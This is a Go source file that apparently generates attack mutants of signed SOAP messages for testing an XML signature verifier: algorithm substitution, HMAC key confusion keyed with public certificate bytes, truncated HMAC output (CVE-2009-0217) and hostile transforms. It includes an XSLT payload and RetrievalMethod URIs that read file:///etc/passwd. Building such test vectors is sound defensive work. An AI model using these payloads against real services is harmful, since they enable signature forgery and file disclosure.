package attack

import (
	"crypto/ecdsa"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha1" //nolint:gosec // attack vectors use SHA-1 on purpose
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"hash"
	"math/big"
	"strconv"
	"strings"

	"github.com/wssgw/wssgw/internal/c14n"
)

// Algorithm URIs.
const (
	algRSASHA1     = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
	algRSASHA256   = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
	algRSAMD5      = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"
	algDSASHA1     = "http://www.w3.org/2000/09/xmldsig#dsa-sha1"
	algECDSASHA256 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
	algHMACSHA1    = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
	algHMACSHA256  = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
	algSHA1        = "http://www.w3.org/2000/09/xmldsig#sha1"
	algSHA256      = "http://www.w3.org/2001/04/xmlenc#sha256"
	algMD5         = "http://www.w3.org/2001/04/xmldsig-more#md5"
	algXSLT        = "http://www.w3.org/TR/1999/REC-xslt-19991116"
	algXPath       = "http://www.w3.org/TR/1999/REC-xpath-19991116"
	algXPath2      = "http://www.w3.org/2002/06/xmldsig-filter2"
	algEnveloped   = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
	algBase64      = "http://www.w3.org/2000/09/xmldsig#base64"
	algRawX509     = "http://www.w3.org/2000/09/xmldsig#rawX509Certificate"
	algAES256CBC   = "http://www.w3.org/2001/04/xmlenc#aes256-cbc"
	algAES128CBC   = "http://www.w3.org/2001/04/xmlenc#aes128-cbc"
	algAES128GCM   = "http://www.w3.org/2009/xmlenc11#aes128-gcm"
	algRSA15       = "http://www.w3.org/2001/04/xmlenc#rsa-1_5"
)

func (g *gen) algorithm() {
	m := g.m
	const F = FamilyAlgorithm
	// SignatureMethod substitution.
	for _, a := range []struct{ name, uri string }{
		{"rsa-sha1", algRSASHA1}, {"rsa-md5", algRSAMD5}, {"dsa-sha1", algDSASHA1},
		{"ecdsa-sha256", algECDSASHA256}, {"unknown-signature-method", "urn:wssgw:attack:none"},
	} {
		if e, ok := m.setAttr(m.sigMethod, "", "Algorithm", a.uri); ok && m.attr(m.sigMethod, "", "Algorithm") != a.uri {
			g.add(F, "alg/"+a.name, m.apply(e))
		}
	}
	// Key confusion: a correct HMAC over the canonical SignedInfo keyed
	// with public material from the message (xml-crypto GHSA-c27r-x354-4m68).
	if cert := m.cert(); cert != nil {
		for _, k := range confusionKeys(cert) {
			for _, h := range []struct {
				name, uri string
				new       func() hash.Hash
			}{{"hmac-sha256", algHMACSHA256, sha256.New}, {"hmac-sha1", algHMACSHA1, sha1.New}} {
				data, err := m.hmacSigned(h.uri, "", h.new, k.key, 0)
				if err != nil {
					g.err = err
					return
				}
				g.add(F, "alg/"+h.name+"-keyed-with-"+k.name, data)
			}
		}
	}
	// DigestMethod substitution on every Reference.
	for _, a := range []struct{ name, uri string }{{"sha1", algSHA1}, {"md5", algMD5}, {"unknown", "urn:wssgw:attack:digest"}} {
		var edits []edit
		for _, dm := range m.digestMethods {
			if e, ok := m.setAttr(dm, "", "Algorithm", a.uri); ok && m.attr(dm, "", "Algorithm") != a.uri {
				edits = append(edits, e)
			}
		}
		if len(edits) > 0 {
			g.add(F, "alg/"+a.name+"-digest", m.apply(edits...))
		}
	}
	// SignedInfo canonicalization.
	for _, a := range []struct{ name, uri string }{
		{"inclusive", c14n.AlgC14N10}, {"inclusive-with-comments", c14n.AlgC14N10WithComments},
		{"exc-with-comments", c14n.AlgExcC14NWithComments}, {"c14n11", c14n.AlgC14N11},
		{"unknown", "urn:wssgw:attack:c14n"},
	} {
		if e, ok := m.setAttr(m.c14nMethod, "", "Algorithm", a.uri); ok && m.attr(m.c14nMethod, "", "Algorithm") != a.uri {
			g.add(F, "alg/c14n-"+a.name, m.apply(e))
		}
	}
	// Transforms on the Body reference.
	bodyRef := m.refTo(m.bodyID)
	if bodyRef < 0 {
		bodyRef = m.refs[0]
	}
	p := prefixOf(m.qname(bodyRef))
	tr := func(alg, content string) string {
		return "<" + p + "Transform Algorithm=\"" + alg + "\">" + content + "</" + p + "Transform>"
	}
	transforms := []struct{ name, xml string }{
		{"xslt", tr(algXSLT, `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document('file:///etc/passwd')"/></xsl:template></xsl:stylesheet>`)},
		{"xpath", tr(algXPath, "<"+p+"XPath>not(ancestor-or-self::*[local-name()='placeOrder'])</"+p+"XPath>")},
		{"xpath-filter2", tr(algXPath2, `<dsf:XPath xmlns:dsf="`+algXPath2+`" Filter="subtract">//*[local-name()='Body']/*</dsf:XPath>`)},
		{"enveloped-signature", tr(algEnveloped, "")},
		{"base64", tr(algBase64, "")},
		{"inclusive-c14n", tr(c14n.AlgC14N10, "")},
		{"exc-c14n-with-comments", tr(c14n.AlgExcC14NWithComments, "")},
		{"unknown", tr("urn:wssgw:attack:transform", "")},
		{"six-exc-c14n", strings.Repeat(tr(c14n.AlgExcC14N, ""), 6)},
	}
	if ts := m.child(bodyRef, NSDS, "Transforms"); ts >= 0 {
		for _, t := range transforms {
			g.add(F, "alg/transform-"+t.name, m.apply(m.prepend(ts, t.xml)))
		}
		g.add(F, "alg/transforms-removed", m.apply(m.remove(ts)))
	} else {
		for _, t := range transforms {
			g.add(F, "alg/transform-"+t.name, m.apply(m.prepend(bodyRef, "<"+p+"Transforms>"+t.xml+"</"+p+"Transforms>")))
		}
	}
	// KeyInfo indirections.
	if m.keyInfo >= 0 {
		kp := prefixOf(m.qname(m.keyInfo))
		rm := func(uri string) string {
			return "<" + kp + "RetrievalMethod URI=\"" + uri + "\" Type=\"" + algRawX509 + "\"/>"
		}
		g.add(F, "alg/keyinfo-retrievalmethod-http", m.apply(m.setContent(m.keyInfo, rm("http://127.0.0.1:9/signer.cer"))))
		g.add(F, "alg/keyinfo-retrievalmethod-file", m.apply(m.setContent(m.keyInfo, rm("file:///etc/passwd"))))
		if m.bst >= 0 {
			if id := m.attr(m.bst, NSWSU, "Id"); id != "" {
				g.add(F, "alg/keyinfo-retrievalmethod-bst", m.apply(m.setContent(m.keyInfo, rm("#"+id))))
			}
		}
		if cert := m.cert(); cert != nil {
			if kv := keyValue(kp, cert); kv != "" {
				g.add(F, "alg/keyinfo-keyvalue-signer-key", m.apply(m.setContent(m.keyInfo, kv)))
			}
		}
	}
	// Encryption algorithm substitution (C3).
	ord := map[string]int{}
	for _, em := range m.encMethods {
		alg := m.attr(em, "", "Algorithm")
		parent := m.el(em).Parent
		var subs []struct{ name, uri string }
		switch {
		case m.el(parent).Local == "EncryptedData":
			subs = []struct{ name, uri string }{{"aes256-cbc", algAES256CBC}, {"aes128-cbc", algAES128CBC}, {"aes128-gcm", algAES128GCM}}
		case m.el(parent).Local == "EncryptedKey":
			subs = []struct{ name, uri string }{{"rsa-1_5", algRSA15}}
		}
		kind := strings.ToLower(m.el(parent).Local)
		n := ord[kind]
		ord[kind]++
		for _, s := range subs {
			if s.uri == alg {
				continue
			}
			e, _ := m.setAttr(em, "", "Algorithm", s.uri)
			g.add(F, "alg/"+kind+"-"+s.name+"-"+strconv.Itoa(n), m.apply(e))
		}
	}
}

func (g *gen) hmac() {
	m := g.m
	const F = FamilyHMAC
	var key []byte
	if cert := m.cert(); cert != nil {
		key = confusionKeys(cert)[0].key
	}
	p := prefixOf(m.qname(m.sigMethod))
	for _, l := range []int{0, 8, 160} {
		out := "<" + p + "HMACOutputLength>" + strconv.Itoa(l) + "</" + p + "HMACOutputLength>"
		// In the original (asymmetric) SignatureMethod.
		g.add(F, "hmac/outputlength-"+strconv.Itoa(l)+"-in-original-method", m.apply(m.prepend(m.sigMethod, out)))
		// HMAC-SHA1 truncated to l bits (CVE-2009-0217), with the value an
		// attacker can compute (the key-confusion key) or guess (l = 0, 8).
		data, err := m.hmacSigned(algHMACSHA1, out, sha1.New, key, l)
		if err != nil {
			g.err = err
			return
		}
		g.add(F, "hmac/hmac-sha1-outputlength-"+strconv.Itoa(l), data)
	}
}

// prefixOf returns "p:" for a qualified name "p:x", else "".
func prefixOf(qname string) string {
	if i := strings.IndexByte(qname, ':'); i >= 0 {
		return qname[:i+1]
	}
	return ""
}

// child returns the first child of i with the given name, or -1.
func (m *msg) child(i int, space, local string) int {
	for c := m.doc.FirstChild(i); c >= 0; c = m.doc.NextSibling(c) {
		if e := m.el(c); e.Space == space && e.Local == local {
			return c
		}
	}
	return -1
}

// cert returns the certificate in the BinarySecurityToken, or nil.
func (m *msg) cert() *x509.Certificate {
	if m.bst < 0 {
		return nil
	}
	der, err := base64.StdEncoding.DecodeString(strings.Join(strings.Fields(m.text(m.bst)), ""))
	if err != nil {
		return nil
	}
	c, err := x509.ParseCertificate(der)
	if err != nil {
		return nil
	}
	return c
}

type namedKey struct {
	name string
	key  []byte
}

// confusionKeys returns the public byte strings an HMAC key-confusion
// attacker tries: the SPKI DER, the PKCS#1 DER of an RSA key, the
// certificate DER.
func confusionKeys(c *x509.Certificate) []namedKey {
	keys := []namedKey{{"spki", c.RawSubjectPublicKeyInfo}}
	if pk, ok := c.PublicKey.(*rsa.PublicKey); ok {
		keys = append(keys, namedKey{"pkcs1", x509.MarshalPKCS1PublicKey(pk)})
	}
	return append(keys, namedKey{"cert", c.Raw})
}

// keyValue returns a ds:KeyValue holding the certificate's public key.
func keyValue(p string, c *x509.Certificate) string {
	b64 := func(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
	switch pk := c.PublicKey.(type) {
	case *rsa.PublicKey:
		return "<" + p + "KeyValue><" + p + "RSAKeyValue><" + p + "Modulus>" + b64(pk.N.Bytes()) + "</" + p + "Modulus><" +
			p + "Exponent>" + b64(big.NewInt(int64(pk.E)).Bytes()) + "</" + p + "Exponent></" + p + "RSAKeyValue></" + p + "KeyValue>"
	case *ecdsa.PublicKey:
		der, err := x509.MarshalPKIXPublicKey(pk)
		if err != nil {
			return ""
		}
		return `<dsig11:DEREncodedKeyValue xmlns:dsig11="http://www.w3.org/2009/xmldsig11#">` + b64(der) + `</dsig11:DEREncodedKeyValue>`
	}
	return ""
}

// hmacSigned returns the message with SignatureMethod set to alg (with
// extra as its content) and SignatureValue set to the HMAC of the
// canonical SignedInfo under key, truncated to bits when bits > 0 (bits =
// 0 with extra set gives an empty value, as CVE-2009-0217 allows).
func (m *msg) hmacSigned(alg, extra string, h func() hash.Hash, key []byte, bits int) ([]byte, error) {
	e, _ := m.setAttr(m.sigMethod, "", "Algorithm", alg)
	edits := []edit{e}
	if extra != "" {
		edits = append(edits, m.prepend(m.sigMethod, extra))
	}
	m1, err := parse(m.apply(edits...))
	if err != nil {
		return nil, fmt.Errorf("attack: hmac mutant: %w", err)
	}
	c, err := m1.canonicalSignedInfo()
	if err != nil {
		return nil, err
	}
	mac := hmac.New(h, key)
	mac.Write(c)
	sum := mac.Sum(nil)
	if extra != "" {
		sum = sum[:min(len(sum), bits/8)]
	}
	return m1.apply(m1.setContent(m1.sigValue, base64.StdEncoding.EncodeToString(sum))), nil
}

// canonicalSignedInfo returns the SignedInfo canonicalized as its
// CanonicalizationMethod says.
func (m *msg) canonicalSignedInfo() ([]byte, error) {
	alg := m.attr(m.c14nMethod, "", "Algorithm")
	var pl []string
	if alg == c14n.AlgExcC14N || alg == c14n.AlgExcC14NWithComments {
		if in := m.child(m.c14nMethod, c14n.AlgExcC14N, "InclusiveNamespaces"); in >= 0 {
			var err error
			if pl, err = c14n.ParsePrefixList(m.attr(in, "", "PrefixList")); err != nil {
				return nil, err
			}
		}
	}
	return c14n.Canonicalize(alg, m.doc, m.signedInfo, pl, nil)
}
